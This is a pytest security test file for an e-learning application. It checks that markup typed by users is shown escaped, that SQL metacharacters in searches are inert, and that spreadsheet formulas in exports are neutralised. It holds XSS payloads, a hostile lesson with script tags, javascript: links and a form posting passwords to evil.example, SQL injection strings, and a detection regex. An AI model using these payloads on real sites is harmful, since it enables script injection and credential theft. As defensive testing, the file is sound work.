"""The hostile corpus, part one: what people type. Markup in every field that one person types and
another reads is shown escaped; SQL, LIKE and full-text metacharacters in every search and filter are
inert (a clear answer, never a 500, never more rows); spreadsheet formulas in every export are
neutralised (a leading ``'`` in CSV, text cells in XLSX).

Each case plants its input through the real pages or API (or, for course content, ``elearn content
load``), reads it back as the other person, and undoes it (``World.restored``). The world is shared with
the authorisation matrix (tests/trust/conftest.py); peserta's essay answer is hostile markup already.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from sqlalchemy import select, update

from elearn.accounts.models import User
from elearn.catalogue.models import Course, Lesson
from elearn.evaluation.models import NeedsTopic
from elearn.extensions import db
from tests.coursetree import build_course
from tests.factories import DINKES, SORONG, load_content
from tests.trust.hostile import (
    FORMULAS,
    SQL,
    XSS,
    assert_inert,
    call_api,
    csv_cells,
    get,
    neutralised,
    post_form,
    xlsx_cells,
)
from tests.trust.world import World

UNIT_XSS = '<img src=x onerror=alert(1)> "Dinas"'  # a unit name may not hold "/" (the path separator)
PDF = b"%PDF-1.4 bukti"
Readers = list[tuple[str, str]]


def users_csv(rows: list[dict[str, str]]) -> bytes:
    """A users CSV (the header of ``elearn users import``)."""
    out = io.StringIO()
    columns = ["username", "nip", "name", "email", "unit", "position", "role", "password"]
    writer = csv.DictWriter(out, columns)
    writer.writeheader()
    writer.writerows([{column: row.get(column, "") for column in columns} for row in rows])
    return out.getvalue().encode()


def import_users(world: World, rows: list[dict[str, str]]) -> None:
    """An admin imports ``rows`` through the import page."""
    file = (io.BytesIO(users_csv(rows)), "pegawai.csv")
    response = post_form(world, "admin", "/admin/users/import", {"file": file}, content_type="multipart/form-data")
    assert response.status_code == 200, response.get_data(as_text=True)[:2000]


def record_by_learner(world: World, title: str, organiser: str = "BKN") -> int:
    """peserta claims an external learning record through the API; its id."""
    fields = {"title": title, "method": "seminar", "competency": "teknis", "organiser": organiser}
    fields.update(started_on="2026-03-01", ended_on="2026-03-02", jp="4")
    data = {**fields, "evidence": (io.BytesIO(PDF), "bukti.pdf")}
    response = call_api(world, "learner", "POST", "/api/v1/me/learning-records", data=data)
    assert response.status_code == 201, response.get_json()
    return int(response.get_json()["id"])


def plant_imported_name(world: World) -> Readers:
    import_users(world, [{"username": "ani", "nip": "199001012015032001", "name": XSS, "unit": DINKES}])
    person = db.session.scalar(select(User.id).where(User.username == "ani"))
    return [
        ("admin", "/admin/users"),
        ("admin", f"/admin/users/{person}"),
        ("coordinator", "/admin/users?q=ani"),
        ("coordinator", "/reports/jp"),
    ]


def plant_essay(world: World) -> Readers:
    finished, question = world.ids["finished_attempt_id"], world.ids["question_id"]
    return [
        ("instructor", f"/attempts/{finished}/grade/{question}"),
        ("instructor", f"/attempts/{finished}"),
        ("coordinator", f"/attempts/{finished}"),
    ]


def plant_record(world: World) -> Readers:
    record = record_by_learner(world, XSS, organiser=XSS)
    return [("coordinator", "/manage/jp/records"), ("learner", "/jp"), ("learner", f"/jp/records/{record}/edit")]


def plant_rejection_reason(world: World) -> Readers:
    response = call_api(
        world, "coordinator", "POST", f"/api/v1/learning-records/{world.ids['record_id']}/reject", json={"reason": XSS}
    )
    assert response.status_code == 200, response.get_json()
    return [("learner", "/jp"), ("admin", "/admin/audit")]


def plant_enrolment_request_reason(world: World) -> Readers:
    response = call_api(world, "learner_elsewhere", "POST", "/api/v1/courses/TST-A/enrolment", json={"reason": XSS})
    assert response.status_code == 201, response.get_json()
    return [
        ("instructor", "/manage/courses/TST-A"),
        ("coordinator_elsewhere", "/manage/courses/TST-A?status=pending"),
        ("admin", "/manage/courses/TST-A/participants/jauh"),
    ]


def plant_enrolment_rejection_reason(world: World) -> Readers:
    response = call_api(
        world, "instructor", "POST", "/api/v1/courses/TST-A/enrolments/peserta/reject", json={"reason": XSS}
    )
    assert response.status_code == 200, response.get_json()
    return [
        ("learner", "/courses/TST-A"),
        ("admin", "/admin/audit"),
        ("coordinator", "/manage/courses/TST-A/participants/peserta"),
    ]


def plant_position(world: World) -> Readers:
    fields = {"name": "Peserta", "email": "", "position": XSS, "unit": DINKES, "role": "learner"}
    response = post_form(world, "coordinator", f"/admin/users/{world.ids['user_id']}", fields)
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    return [("admin", f"/admin/users/{world.ids['user_id']}"), ("admin", "/admin/audit"), ("learner", "/account")]


def plant_unit(world: World) -> Readers:
    response = post_form(world, "admin", "/admin/units", {"parent": SORONG, "name": UNIT_XSS})
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    return [("admin", "/admin/units"), ("admin", "/admin/audit")]


def plant_post(world: World) -> Readers:
    response = call_api(world, "learner", "POST", "/api/v1/courses/TST-1/discussion", json={"body": XSS})
    assert response.status_code == 201, response.get_json()
    post = response.get_json()["id"]
    reply = call_api(world, "instructor", "POST", f"/api/v1/discussion/{post}/replies", json={"body": XSS})
    assert reply.status_code == 201, reply.get_json()
    hide = call_api(world, "instructor", "POST", f"/api/v1/discussion/{post}/hide", json={"reason": XSS})
    assert hide.status_code == 204
    return [
        ("instructor", "/courses/TST-1/discussion"),
        ("instructor", f"/discussion/{post}"),
        ("admin", f"/discussion/{post}"),
        ("admin", "/admin/audit"),
    ]


def answer_survey_five_times(world: World, text: str) -> None:
    """peserta and four more learners who completed TST-1 answer its survey with ``text`` as their
    suggestion: five responses, the first batch the results show."""
    from elearn.core.time import now
    from elearn.enrolment.models import Enrolment
    from elearn.evaluation.models import SurveyItem
    from elearn.evaluation.surveys import answer_survey
    from tests.factories import create_user

    course = db.session.scalar(select(Course.id).where(Course.code == "TST-1"))
    items = {key: item for key, item in db.session.execute(select(SurveyItem.key, SurveyItem.id))}
    given = {items["id:relevansi"]: ["4"], items["id:saran"]: [text]}
    people = [db.session.get(User, world.ids["user_id"])]
    for n in range(4):
        person = create_user(f"penjawab{n}", unit=DINKES)
        db.session.add(Enrolment(user_id=person.id, course_id=course, status="active", completed_at=now()))
        people.append(person)
    db.session.flush()
    for person in people:
        answer_survey(person, "TST-1", given)
    db.session.commit()


def plant_survey_text(world: World) -> Readers:
    answer_survey_five_times(world, XSS)
    return [("instructor", "/courses/TST-1/survey/results"), ("admin", "/courses/TST-1/survey/results")]


def plant_needs_comment(world: World) -> Readers:
    survey, topic = world.ids["survey_id"], world.ids["topic_id"]
    body = {"ratings": {str(topic): 5}, "method": "mentoring", "comment": XSS}
    response = call_api(world, "learner", "PUT", f"/api/v1/needs-surveys/{survey}/response", json=body)
    assert response.status_code == 200, response.get_json()
    return [("coordinator", f"/needs/{survey}"), ("admin", f"/needs/{survey}")]


SURFACES: dict[str, tuple[Callable[[World], Readers], str]] = {
    "a discussion post, a reply and a moderator's reason": (plant_post, XSS),
    "a survey's free-text answer, in the results": (plant_survey_text, XSS),
    "a training-needs comment": (plant_needs_comment, XSS),
    "a name from the users CSV import": (plant_imported_name, XSS),
    "an essay answer, read by the grader": (plant_essay, XSS),
    "an external learning record's title and organiser": (plant_record, XSS),
    "a coordinator's reason for rejecting a record": (plant_rejection_reason, XSS),
    "a position typed by a coordinator": (plant_position, XSS),
    "a learner's reason for asking to join an approval course": (plant_enrolment_request_reason, XSS),
    "an approver's reason for rejecting an enrolment": (plant_enrolment_rejection_reason, XSS),
    "a unit's name": (plant_unit, UNIT_XSS),
}


@pytest.mark.parametrize("surface", SURFACES)
def test_markup_typed_by_one_person_is_shown_escaped_to_another(world: World, surface: str) -> None:
    plant, payload = SURFACES[surface]
    with world.restored():
        readers = plant(world)
        for role, url in readers:
            response = get(world, role, url)
            assert response.status_code == 200, f"{role} {url}: {response.status_code}"
            assert_inert(response.get_data(as_text=True), payload, where=f"{role} {url}")


#: A tag that runs script, loads from elsewhere, or posts elsewhere (text that merely reads so is fine).
DANGEROUS_TAG = re.compile(
    r'<script(?![^>]*src="/static/)|<(style|object|embed)\b|<form[^>]*https?:|\son\w+\s*=|javascript:|srcdoc|evil\.example'
)
HOSTILE_LESSON = """\
# Pelajaran berbahaya

<script>alert("lesson")</script>
<img src="../media/gambar.svg" onerror=alert(1)>
<a href="javascript:alert(1)">tautan</a>
<iframe src="https://evil.example/"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
[klik](javascript:alert(1))
Teks{onclick="alert(1)"}
<form action="https://evil.example/"><input name="password"></form>
<style>body{display:none}</style>
"""


def test_hostile_course_content_is_sanitised_on_every_page_that_shows_it(world: World, tmp_path: Path) -> None:
    folder = build_course(tmp_path, "TST-X", instructors="[guru]", modules=1, lessons=1, quiz=False)
    course_md = folder / "course.md"
    text = course_md.read_text(encoding="utf-8").replace("Ringkasan kursus uji", "'<script>alert(1)</script> ringkas'")
    course_md.write_text(
        text.replace("Deskripsi kursus TST-X.", HOSTILE_LESSON.replace("../media/", "media/")), encoding="utf-8"
    )
    lesson = next(folder.glob("01-*/01-*.md"))
    lesson.write_text(HOSTILE_LESSON, encoding="utf-8")
    with world.restored():
        load_content(world.app, tmp_path)
        course = db.session.scalar(select(Course.id).where(Course.code == "TST-X"))
        lesson_id = db.session.scalar(select(Lesson.id).where(Lesson.course_id == course))
        pages = [
            get(world, "instructor", url).get_data(as_text=True)
            for url in ("/", "/courses/TST-X", f"/lessons/{lesson_id}")
        ]
        api = get(world, "instructor", f"/api/v1/lessons/{lesson_id}").get_json()["html"]
        for shown in [*pages, api]:
            tags = [tag.lower() for tag in re.findall(r"<[a-zA-Z][^>]*>", shown)]
            dangerous = [tag for tag in tags if DANGEROUS_TAG.search(tag)]
            assert not dangerous, f"dangerous markup reached a page: {dangerous}"


SEARCHES = [
    ("learner", "/?q={}"),
    ("learner", "/api/v1/courses?q={}"),
    ("coordinator", "/admin/users?q={}"),
    ("coordinator", "/admin/users?unit={}"),
    ("admin", "/admin/audit?action={}&actor={}&target={}"),
    ("admin", "/admin/audit?since={}"),
    ("coordinator", "/manage/certificates?q={}"),
    ("coordinator", "/manage/certificates?course={}&status={}&year={}"),
    ("coordinator", "/reports/jp?unit={}&competency={}"),
    ("coordinator", "/reports/jp?year={}"),
    ("coordinator", "/reports/siasn.csv?unit={}"),
    ("coordinator", "/api/v1/reports/jp?unit={}"),
    ("coordinator", "/api/v1/certificates/managed?q={}"),
    ("coordinator", "/manage/jp/records?status={}"),
    ("instructor", "/manage/courses/TST-1?status={}&q={}"),
    ("coordinator", "/manage/courses/TST-1?unit={}&q={}"),
    ("instructor", "/api/v1/courses/TST-1/enrolments?status={}"),
    ("coordinator", "/api/v1/courses/TST-1/enrolments?q={}&unit={}"),
]


@pytest.mark.parametrize(("role", "template"), SEARCHES, ids=[template for _role, template in SEARCHES])
def test_sql_metacharacters_in_searches_and_filters_are_inert(world: World, role: str, template: str) -> None:
    from urllib.parse import quote

    for text in SQL:
        response = get(world, role, template.replace("{}", quote(text, safe="")))
        assert response.status_code in (200, 403, 422), f"{text!r}: {response.status_code}"
        if response.is_json and response.status_code == 200:
            body = response.get_json()
            assert not body.get("items") or "%" not in text and "_" not in text, f"{text!r} matched everything"


@pytest.mark.parametrize("text", ["' OR '1'='1", "%", "_", '"', "a OR b", "NEAR(a b", "*"])
def test_a_search_matches_its_words_literally(world: World, text: str) -> None:
    from urllib.parse import quote

    q = quote(text, safe="")
    assert get(world, "learner", f"/api/v1/courses?q={q}").get_json()["items"] == []
    assert get(world, "coordinator", f"/api/v1/certificates/managed?q={q}").get_json()["items"] == []
    assert "peserta" not in get(world, "coordinator", f"/admin/users?q={q}").get_data(as_text=True)


def plant_formulas(world: World) -> None:
    """Names, positions, a unit and a record title that a spreadsheet would run."""
    rows = [
        {"username": f"rumus{n}", "nip": f"19900101201503200{n}", "name": formula, "unit": DINKES, "position": formula}
        for n, formula in enumerate(FORMULAS)
    ]
    import_users(world, rows)
    record = record_by_learner(world, FORMULAS[0], organiser=FORMULAS[1])
    assert call_api(world, "coordinator", "POST", f"/api/v1/learning-records/{record}/approve").status_code == 200


EXPORTS = [
    "/reports/jp.csv?year=2026",
    "/reports/siasn.csv?year=2026",
    "/api/v1/reports/jp?format=csv&year=2026",
    "/api/v1/reports/siasn?year=2026",
]
XLSX_EXPORTS = ["/reports/jp.xlsx?year=2026", "/api/v1/reports/jp?format=xlsx&year=2026"]


def test_formulas_in_every_export_are_neutralised(world: World) -> None:
    with world.restored():
        plant_formulas(world)
        answer_survey_five_times(world, FORMULAS[0])
        survey, topic = world.ids["survey_id"], world.ids["topic_id"]
        body = {"ratings": {str(topic): 5}, "method": "mentoring", "comment": FORMULAS[0]}
        db.session.execute(update(NeedsTopic).where(NeedsTopic.id == topic).values(title=FORMULAS[0]))
        db.session.commit()
        assert (
            call_api(world, "learner", "PUT", f"/api/v1/needs-surveys/{survey}/response", json=body).status_code == 200
        )
        for url in [*EXPORTS, "/courses/TST-1/survey/results.csv", f"/needs/{survey}/export.csv"]:
            response = get(world, "coordinator", url)
            assert response.status_code == 200, url
            cells = csv_cells(response.get_data())
            assert any(cell.lstrip("'").startswith("=HYPERLINK") for cell in cells), f"{url}: the names are missing"
            assert all(neutralised(cell) for cell in cells), f"{url}: {[c for c in cells if not neutralised(c)]}"
        for url in [*XLSX_EXPORTS, f"/needs/{world.ids['survey_id']}/export.xlsx"]:
            response = get(world, "coordinator", url)
            assert response.status_code == 200, url
            cells = xlsx_cells(response.get_data())
            assert not [value for kind, value in cells if kind == "f"], f"{url}: formula cells"
            texts = [value for _kind, value in cells if isinstance(value, str)]
            assert any("HYPERLINK" in text for text in texts), f"{url}: the names are missing"
            assert all(neutralised(text) for text in texts), f"{url}: {[t for t in texts if not neutralised(t)]}"
